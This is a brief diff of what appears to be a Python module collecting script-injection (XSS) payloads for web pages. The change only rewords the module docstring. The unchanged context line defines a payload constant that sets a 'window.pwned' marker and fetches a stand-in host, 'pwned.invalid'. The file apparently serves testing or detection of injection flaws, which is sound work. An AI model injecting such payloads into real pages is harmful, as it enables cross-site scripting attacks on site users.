@@ -1,4 +1,4 @@
-"""Fifty ways to get a script into a page: each sets `window.pwned`, opens a dialog, or calls out."""
+"""Fifty ways to get a script into a page: each sets `window.pwned`, or opens or calls something."""
 
 _CALL = "window.pwned=1;fetch('http://pwned.invalid/')"
 
